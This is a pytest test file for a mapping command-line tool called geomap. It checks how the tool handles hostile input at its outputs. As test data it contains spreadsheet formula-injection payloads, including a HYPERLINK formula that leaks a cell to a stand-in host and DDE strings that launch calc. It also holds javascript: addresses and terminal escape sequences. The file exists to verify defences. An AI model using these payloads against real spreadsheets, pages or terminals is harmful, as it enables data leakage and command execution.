"""Hostile input to what geomap writes and prints: an output over an input, a full disk, bytes
that are not UTF-8 on the command line, numbers of thousands of digits, spreadsheet formulas,
script addresses, terminal escapes and temporary files left by a killed build."""

import csv
import errno
import io
import json
import os
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from geomap import files
from geomap.cli import cli
from geomap.csvcells import escape_cell, read_cells, unescape_cell
from geomap.errors import GeomapError
from geomap.events import load_events
from geomap.gazetteer.places import data_dir
from geomap.pipeline import build
from geomap.terminal import visible

CORPUS = Path(__file__).parent / "corpus" / "outputs"
OLD_MAP = "<!-- the published map -->"


def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def _geomap(*args):
    """The command line of geomap in a fresh process (arguments may be bytes, as argv is)."""
    return [sys.executable, "-m", "geomap", *(a if isinstance(a, bytes) else str(a) for a in args)]


def _fingerprint(folder: Path) -> dict:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# --- an output over an input -------------------------------------------------------------------


@pytest.fixture
def events(tmp_path, events_file):
    return events_file()


def _hard_link(events):
    link = events.with_name("hard-link.yaml")
    os.link(events, link)
    return link


def _symlink(events):
    link = events.with_name("symlink.yaml")
    link.symlink_to(events.name)
    return link


def _other_spelling(events):
    (events.parent / "sub").mkdir()
    return events.parent / "sub" / ".." / events.name


@pytest.mark.parametrize(
    "command, target",
    [
        (["build", "{events}", "-o", "{out}"], lambda e: e),
        (["build", "{events}", "-o", "{out}"], _hard_link),
        (["build", "{events}", "-o", "{out}"], _other_spelling),
        (["build", "{events}", "-o", "map.html", "--png", "{out}"], _symlink),
        (["export", "{events}", "--format", "csv", "-o", "{out}"], lambda e: e),
        (["export", "{events}", "-o", "{out}"], _hard_link),
        (["export", "{events}", "-o", "{out}"], _symlink),
    ],
    ids=[
        "build-same",
        "build-hard-link",
        "build-dotdot",
        "png-symlink",
        "export-same",
        "export-hard-link",
        "export-symlink",
    ],
)
def test_no_output_replaces_the_events_file(tmp_path, monkeypatch, events, command, target):
    monkeypatch.chdir(tmp_path)
    out = target(events)
    before = _fingerprint(tmp_path)
    result = run(*[part.format(events=events, out=out) for part in command])
    assert result.exit_code == 2, result.output
    option = "--png" if "--png" in command else "-o"
    assert (
        f"refusing to write {'PNG' if option == '--png' else 'output'} {out}: it is the input "
        f"events file {events}; choose another {option}." in result.output
    )
    assert _fingerprint(tmp_path) == before  # nothing written, nothing removed


def test_no_draft_replaces_the_article(tmp_path):
    article = tmp_path / "a.html"
    article.write_text("<p>Protests took place in Kharkiv.</p>", encoding="utf-8")
    link = tmp_path / "draft.yaml"
    os.link(article, link)
    for draft in (article, link):
        result = run("extract", article, "--draft", draft)
        assert result.exit_code == 2
        assert (
            f"refusing to write draft {draft}: it is the article {article}; choose another --draft."
            in result.output
        )
    assert article.read_text(encoding="utf-8") == "<p>Protests took place in Kharkiv.</p>"


def test_the_map_and_the_png_are_not_one_file(tmp_path, events):
    out = tmp_path / "map.html"
    result = run("build", events, "-o", out, "--png", tmp_path / "." / "map.html")
    assert result.exit_code == 2
    assert (
        "refusing to write PNG" in result.output and "it is also the output (-o)" in result.output
    )
    assert not out.exists()


def test_the_library_refuses_too_and_the_gazetteer_is_an_input(tmp_path, events):
    with pytest.raises(GeomapError, match="it is the input events file"):
        build([events], events)
    # Checked without writing: a failure here must not damage the bundled data.
    with pytest.raises(GeomapError, match="it is the bundled gazetteer file"):
        files.refuse_overwriting_inputs([("output", data_dir() / "regions.geojson", "-o")], [])


def test_a_new_output_beside_the_input_is_fine(tmp_path, events):
    assert run("build", events, "-o", tmp_path / "map.html").exit_code == 0
    assert run("export", events, "-o", tmp_path / "events.geojson").exit_code == 0


# --- a full disk ---------------------------------------------------------------------------------


def _failing_writes(monkeypatch, code):
    """Every write through write_atomic fails with `code`, as the kernel says it."""
    real_fdopen = os.fdopen

    class Failing(io.RawIOBase):
        def __init__(self, fd):
            self.file = real_fdopen(fd, "wb")

        def write(self, data):
            raise OSError(code, os.strerror(code))

        def close(self):
            self.file.close()
            super().close()

    monkeypatch.setattr(files.os, "fdopen", lambda fd, mode: Failing(fd))


@pytest.mark.parametrize(
    "command",
    [
        ["build", "{events}", "-o", "{out}"],
        ["export", "{events}", "--format", "csv", "-o", "{out}"],
    ],
)
@pytest.mark.parametrize(
    "code, meaning, advice",
    [
        (
            errno.ENOSPC,
            "No space left on device (ENOSPC)",
            "Free some space on that disk, or write the file to another one.",
        ),
        (
            errno.EDQUOT,
            "Disk quota exceeded (EDQUOT)",
            "Free some of your disk quota, or write the file somewhere else.",
        ),
    ],
)
def test_full_disk_is_one_message_and_the_old_file_stays(
    tmp_path, monkeypatch, events, command, code, meaning, advice
):
    out = tmp_path / "map.html"
    out.write_text(OLD_MAP, encoding="utf-8")
    _failing_writes(monkeypatch, code)
    result = run(*[part.format(events=events, out=out) for part in command])
    assert result.exit_code == 2
    assert result.output.strip().splitlines()[-1] == (
        f"Error: cannot write {out}: {meaning}; the previous map.html is unchanged. {advice}"
    )
    assert out.read_text(encoding="utf-8") == OLD_MAP
    assert sorted(p.name for p in tmp_path.iterdir()) == ["events.yaml", "map.html"]  # no temporary


def test_a_real_file_size_limit_is_one_message(tmp_path, report_path):
    """A real kernel refusal, no mocks: RLIMIT_FSIZE makes writes past 20 kB fail (EFBIG)."""
    out = tmp_path / "map.html"
    out.write_text(OLD_MAP, encoding="utf-8")

    def limit():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # else the kernel kills instead of failing
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))

    proc = subprocess.run(
        _geomap("build", report_path, "-o", out),
        cwd=tmp_path,
        capture_output=True,
        text=True,
        preexec_fn=limit,
        check=False,
    )
    assert proc.returncode == 2
    assert proc.stderr.strip() == (
        f"Error: cannot write {out}: File too large (EFBIG); the previous "
        "map.html is unchanged. Write the file to a disk that takes larger files."
    )
    assert out.read_text(encoding="utf-8") == OLD_MAP
    assert [p.name for p in tmp_path.iterdir()] == ["map.html"]


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs Linux's /dev/full (always full)")
@pytest.mark.parametrize(
    "command", [["export", "{events}", "--format", "csv"], ["geocode", "Kharkov"]]
)
def test_standard_output_on_a_full_disk_is_one_message(events, command):
    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            _geomap(*[part.format(events=events) for part in command]),
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
            cwd=Path(events).parent,  # not the checkout, whose geomap/ lacks the installed data
        )
    assert proc.returncode == 2
    assert proc.stderr == (
        "Error: cannot write standard output: No space left on device (ENOSPC). "
        "Free some space, or send the output somewhere else.\n"
    )


# --- bytes that are not UTF-8 on the command line ------------------------------------------------

NOT_UTF8 = "Kharkiv \udcff\udcfe"  # what Python makes of argv bytes b"Kharkiv \xff\xfe"


def _text_parameters():
    """(command, parameter) for every parameter that takes text, not a path or a flag."""
    for name, command in cli.commands.items():
        for param in command.params:
            if (
                isinstance(param.type, (click.Path, click.Choice, click.DateTime))
                or getattr(param, "is_flag", False)
                or param.name == "help"
            ):
                continue
            yield name, param


# What each command needs besides the parameter under test.
_REQUIRED = {
    "check": ["{events}"],
    "export": ["{events}"],
    "embed": ["{map}"],
    "extract": ["{events}"],
}


@pytest.mark.parametrize(
    "command, param", list(_text_parameters()), ids=[f"{c}-{p.name}" for c, p in _text_parameters()]
)
def test_every_text_option_refuses_bytes_that_are_not_utf8(tmp_path, events, command, param):
    page = tmp_path / "map.html"
    page.write_text(OLD_MAP, encoding="utf-8")
    args = [a.format(events=events, map=page) for a in _REQUIRED.get(command, [])]
    if isinstance(param, click.Option):
        args += [param.opts[-1], NOT_UTF8]
        name = param.opts[-1]
    else:
        args = [NOT_UTF8]
        name = param.metavar or param.name.upper()
    if command == "build":
        args += ["-o", page, "--png", tmp_path / "card.png"]  # so --png-size is read too
    before = _fingerprint(tmp_path)
    result = run(command, *args)
    assert result.exit_code == 2
    assert (
        f"Error: {name} is not valid UTF-8 (byte 0xff at character 9 of 'Kharkiv \\xff\\xfe'). "
        "Give the text in UTF-8"
    ) in result.output
    assert _fingerprint(tmp_path) == before


def test_text_options_are_checked(tmp_path):
    """The list above is not empty by accident: it holds the options users type text into."""
    names = {(c, p.name) for c, p in _text_parameters()}
    assert {
        ("build", "title"),
        ("build", "layers"),
        ("embed", "title"),
        ("embed", "url"),
        ("embed", "map_html"),
        ("geocode", "names"),
        ("geocode", "country"),
    } <= names


def test_a_real_non_utf8_title_leaves_the_old_map(tmp_path, report_path):
    out = tmp_path / "map.html"
    out.write_text(OLD_MAP, encoding="utf-8")
    proc = subprocess.run(
        _geomap("build", report_path, "-o", out, "--title", b"Refusals \xe9t\xe9"),
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert (
        "--title is not valid UTF-8 (byte 0xe9 at character 10 of 'Refusals \\xe9t\\xe9')"
        in proc.stderr
    )
    assert out.read_text(encoding="utf-8") == OLD_MAP


def test_a_path_that_is_not_utf8_still_works_and_is_shown_escaped(tmp_path, report_path):
    """File names may be any bytes: they are read and written, and shown with \\x escapes."""
    out = os.fsencode(tmp_path) + b"/carte-\xe9t\xe9.html"
    proc = subprocess.run(
        _geomap("build", report_path, "-o", out), cwd=tmp_path, capture_output=True, check=False
    )
    assert proc.returncode == 0, proc.stderr
    assert os.path.exists(out)
    assert b"carte-\\xe9t\\xe9.html" in proc.stdout


# --- numbers of thousands of digits ------------------------------------------------------------


@pytest.mark.parametrize(
    "height", ["9" * 5000, "1" * 5000 + "px", "16:" + "9" * 4400, "٦٠٠", "600 px"]
)
def test_embed_height_of_any_length_is_a_clean_error(tmp_path, height):
    page = tmp_path / "map.html"
    page.write_text("<title>Map</title>", encoding="utf-8")
    result = run("embed", page, "--height", height)
    assert result.exit_code == 2
    assert "Error: --height: expected pixels from 100 to 5000 such as 600 or 600px" in result.output
    assert len(result.output) < 400  # the bad value is shortened, not echoed in full


@pytest.mark.parametrize(
    "size", ["99999999999x1", "1200x" + "8" * 5000, "１２００x800", "1200x800x2"]
)
def test_png_size_of_any_length_is_a_clean_error(tmp_path, events, size):
    result = run(
        "build", events, "-o", tmp_path / "m.html", "--png", tmp_path / "m.png", "--png-size", size
    )
    assert result.exit_code == 2
    assert "Invalid value for --png-size: expected WIDTHxHEIGHT such as 1200x800" in result.output
    assert len(result.output) < 400
    assert not (tmp_path / "m.html").exists()


# --- spreadsheet formulas ------------------------------------------------------------------------


def _exported_csv(tmp_path, source):
    out = tmp_path / "export.csv"
    assert run("export", source, "--format", "csv", "-o", out).exit_code == 0
    return out


def test_exported_cells_never_start_a_formula(tmp_path):
    text = _exported_csv(tmp_path, CORPUS / "formula-cells.yaml").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("https://example.org/?leak="&B2,"Open the source")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'-2+3+cmd|' /C calc'!A0" in cells
    assert "''Tis the season: a text that really begins with a quote" in cells


def test_exported_csv_loads_back_to_the_same_text(tmp_path):
    from geomap.pipeline import locate

    source = CORPUS / "formula-cells.yaml"
    original = locate([source])
    again = locate([_exported_csv(tmp_path, source)])
    for column in (
        "id",
        "title",
        "summary",
        "reported_by",
        "precision_note",
        "source_title",
        "source_publisher",
        "tags",
    ):
        assert list(again[column]) == list(original[column]), column
    assert [[p["written"] for p in ps] for ps in again["places"]] == [
        ["Kharkiv"],
        ["Kharkiv"],
        ["Odessa"],
    ]


def test_a_lone_carriage_return_stays_inside_its_cell(tmp_path, events_file):
    """Found by the property in test_properties.py: Python's csv writer left "a\rb" unquoted."""
    from geomap.pipeline import locate

    source = events_file(title='"Old line\\rnew line"', summary='"=1\\r+2"')
    again = locate([_exported_csv(tmp_path, source)])
    assert (again["title"][0], again["summary"][0]) == ("Old line\rnew line", "=1\r+2")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@A1",
        "\t=1",
        "\r=1",
        "'",
        "'=1",
        "''",
        "'Tis",
        "",
        "plain",
        "a=1",
        "=",
        "'\t",
    ],
)
def test_escaping_is_reversible(text):
    assert unescape_cell(escape_cell(text)) == text


def test_a_hand_typed_apostrophe_is_kept():
    """Only what escape_cell writes is undone: "'Tis" typed in a spreadsheet stays "'Tis"."""
    assert read_cells([" 'Tis ", "'=1+1", "''Tis", "plain"]) == ["'Tis", "=1+1", "'Tis", "plain"]


def test_a_hand_written_csv_with_escaped_cells_loads(tmp_path):
    path = tmp_path / "e.csv"
    path.write_text(
        "id,layer,title,summary,date,places,certainty\n"
        "one,protests,'@SUM(A1:A9),'Tis true,2022-03-01,'=Kharkiv;Odessa,reported\n",
        encoding="utf-8",
    )
    event = load_events(path).events[0]
    assert (event.title, event.summary, event.places) == (
        "@SUM(A1:A9)",
        "'Tis true",
        ["=Kharkiv", "Odessa"],
    )


# --- script addresses in embed -----------------------------------------------------------------

ADDRESSES = json.loads((CORPUS / "embed-addresses.json").read_text(encoding="utf-8"))


@pytest.fixture
def page(tmp_path):
    page = tmp_path / "map.html"
    page.write_text("<title>Resistance</title>", encoding="utf-8")
    return page


@pytest.mark.parametrize("url", ADDRESSES["refused"])
def test_embed_refuses_addresses_that_are_not_http_or_relative(page, url):
    result = run("embed", page, "--url", url)
    assert result.exit_code == 2
    assert result.output.startswith("Error: --url: the address ")
    assert "<iframe" not in result.output and "<a href" not in result.output
    assert "\x1b" not in result.output


@pytest.mark.parametrize("url", ADDRESSES["accepted"])
def test_embed_accepts_http_and_relative_addresses(page, url):
    result = run("embed", page, "--url", url)
    assert result.exit_code == 0
    assert f'<iframe src="{url.replace("&", "&amp;")}"' in result.output


@pytest.mark.parametrize("name", ["javascript:alert(1)", "data:text,x"])
def test_embed_checks_the_map_path_used_as_the_address(tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    Path(name).write_text("<title>Map</title>", encoding="utf-8")
    result = run("embed", name)
    assert result.exit_code == 2
    assert result.output.startswith(f"Error: MAP.html: the address {name!r} is a ")


def test_embed_refuses_a_title_with_a_control_character(page):
    result = run("embed", page, "--title", "Map\x9b2J")
    assert (
        result.exit_code == 2
        and "control character" in result.output
        and "\x9b" not in result.output
    )


# --- terminal escapes ------------------------------------------------------------------------------

ESCAPES = [
    line for line in (CORPUS / "terminal-escapes.txt").read_text(encoding="utf-8").splitlines()
]
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")


def _raw_controls(text):
    return [c for c in RAW_CONTROLS if c in text]


def test_geocode_shows_escapes_in_names_visibly():
    result = run("geocode", *ESCAPES)
    assert not _raw_controls(result.output)  # standard output and the advice on stderr
    lines = result.stdout.splitlines()
    assert lines[1].startswith("\\x1b[31mOdessa\\x1b[0m\tnot resolved")
    assert lines[2].startswith("\\x1b]0;owned\\x07Mukachevo\t")
    assert lines[4].startswith("\\u202eKyiv\t") and lines[5].startswith("\\x9b2J\t")
    assert all(line.count("\t") in (1, 3) for line in lines)  # the columns are intact


def test_a_tab_in_a_name_does_not_make_a_column():
    line = run("geocode", "Khar\tkov").output.rstrip("\n")
    assert line.startswith("Khar\\tkov\t") and line.count("\t") == 1


def test_build_and_check_show_escapes_in_paths_and_layer_names(tmp_path, events_file):
    events = events_file(
        text=(
            # The schema refuses C0 controls in names, not C1: CSI (0x9b) is ESC [ in one character.
            "title: Escapes\nlayers:\n  - {id: strikes, name: \"Strikes\\x9b2J\", color: '#b2182b'}\n"
            "events:\n  - {id: one, layer: strikes, title: T, summary: S, date: 2022-03-01, places: [Kharkiv],"
            " certainty: reported}\n"
        )
    )
    renamed = events.with_name("ev\x1b[2J.yaml")
    events.rename(renamed)
    built = run("build", renamed, "-o", tmp_path / "m\x1b[31m.html")
    checked = run("check", renamed)
    missing = run("build", tmp_path / "gone\x1b]0;x\x07.yaml")
    for result in (built, checked, missing):
        assert not _raw_controls(result.output), result.output
    assert "m\\x1b[31m.html" in built.output and "  Strikes\\x9b2J: 1" in built.output
    assert checked.output.startswith(f"{tmp_path}/ev\\x1b[2J.yaml: 1 events OK")
    assert missing.output.startswith(f"Error: {tmp_path}/gone\\x1b]0;x\\x07.yaml")


def test_extract_shows_escapes_in_the_article_name(tmp_path):
    article = tmp_path / "a\x1b[2J.txt"
    article.write_text("Protests took place in Kharkiv.", encoding="utf-8")
    result = run("extract", article, "--draft", tmp_path / "d\x1b[31m.yaml", "--date", "2022-04-01")
    assert not _raw_controls(result.output)
    assert "a\\x1b[2J.txt: 1 mention of 1 place" in result.output
    assert "Wrote " + str(tmp_path / "d\\x1b[31m.yaml") in result.output


def test_visible():
    assert (
        visible("a\x1b[2J\x07\t\n\x9b\u202e\udcff\x7f")
        == "a\\x1b[2J\\x07\\t\\n\\x9b\\u202e\\xff\\x7f"
    )
    assert visible("line\nnext\x1b", newlines=True) == "line\nnext\\x1b"
    assert visible("Харків, Kraków, C:\\maps") == "Харків, Kraków, C:\\maps"


# --- temporary files of killed builds ----------------------------------------------------------

_BLOCKED_WRITER = """
import os, sys, time
from geomap import files
flag = sys.argv[2]
real_replace = os.replace
def blocked(src, dst):
    print("written", flush=True)
    while not os.path.exists(flag):
        time.sleep(0.02)
    real_replace(src, dst)
files.os.replace = blocked
files.write_atomic(sys.argv[1], "from the blocked writer")
"""


def _blocked_writer(out, flag):
    proc = subprocess.Popen(
        [sys.executable, "-c", _BLOCKED_WRITER, str(out), str(flag)],
        stdout=subprocess.PIPE,
        text=True,
        cwd=out.parent,  # not the checkout: the installed geomap is the one under test
    )
    assert proc.stdout.readline() == "written\n"  # its temporary file exists now
    return proc


def _temporaries(folder):
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def test_a_killed_writers_temporary_file_is_removed_by_the_next_write(tmp_path):
    out = tmp_path / "map.html"
    out.write_text(OLD_MAP, encoding="utf-8")
    proc = _blocked_writer(out, tmp_path / "never")
    left = _temporaries(tmp_path)
    assert len(left) == 1 and left[0].startswith(f".map.html.{proc.pid}.")
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert out.read_text(encoding="utf-8") == OLD_MAP and _temporaries(tmp_path) == left
    files.write_atomic(out, "new map")
    assert _temporaries(tmp_path) == [] and out.read_text(encoding="utf-8") == "new map"


def test_a_concurrent_writers_temporary_file_is_kept(tmp_path):
    out, flag = tmp_path / "map.html", tmp_path / "go"
    proc = _blocked_writer(out, flag)
    files.write_atomic(out, "from this process")  # meanwhile, another write of the same map
    assert len(_temporaries(tmp_path)) == 1  # the live writer's file is still there
    flag.touch()
    assert proc.wait(timeout=30) == 0
    assert out.read_text(encoding="utf-8") == "from the blocked writer"
    assert _temporaries(tmp_path) == []


def test_old_style_temporaries_go_when_old_and_others_stay(tmp_path):
    out = tmp_path / "map.html"
    old = tmp_path / ".map.html.k2j4x9_q.tmp"  # named before temporaries carried a pid
    young = tmp_path / ".map.html.abcdefgh.tmp"
    other_target = tmp_path / ".map.html.1.html.123.abcdefgh.tmp"
    unrelated = tmp_path / ".map.html.notes.tmp"
    for p in (old, young, other_target, unrelated):
        p.write_text("", encoding="utf-8")
    an_hour_ago = time.time() - 3600
    os.utime(old, (an_hour_ago, an_hour_ago))
    files.write_atomic(out, "map")
    assert _temporaries(tmp_path) == sorted(p.name for p in (young, other_target, unrelated))
